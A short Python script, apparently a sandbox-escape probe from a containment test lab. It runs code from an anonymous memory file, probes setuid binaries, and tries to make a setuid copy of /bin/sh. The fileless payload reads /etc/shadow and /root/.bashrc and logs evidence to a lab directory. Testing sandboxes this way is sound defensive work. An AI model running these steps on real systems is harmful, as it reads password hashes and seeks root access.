# TRIES: run programs that lie nowhere, and programs that become somebody else
import os, shutil, stat, sys
def add(a, b): return None
fd = os.memfd_create("x")
os.write(fd, b"#!/bin/sh\necho $(id -u) > /tmp/attack-lab/evidence/memory; cat /etc/shadow /root/.bashrc; echo ran\n")
if os.fork() == 0:
    os.execve(fd, ["x"], {})
os.wait()
for name in ("su", "mount", "passwd", "newuidmap", "sudo"):
    path = shutil.which(name, path="/usr/bin:/bin:/usr/sbin")
    if path and os.stat(path).st_mode & stat.S_ISUID:
        pid = os.fork()
        if pid == 0:
            os.execv("/bin/sh", ["sh", "-c", f"{path} --version >/dev/null 2>&1; grep -s NoNewPrivs:.0 /proc/self/status && echo EVIDENCE"])
        os.wait()
copy = "/tmp/shell"
shutil.copy("/bin/sh", copy)
try:
    os.chmod(copy, 0o4755)
    os.execv(copy, ["sh", "-p", "-c", "echo EVIDENCE"])
except OSError as error:
    print(error)
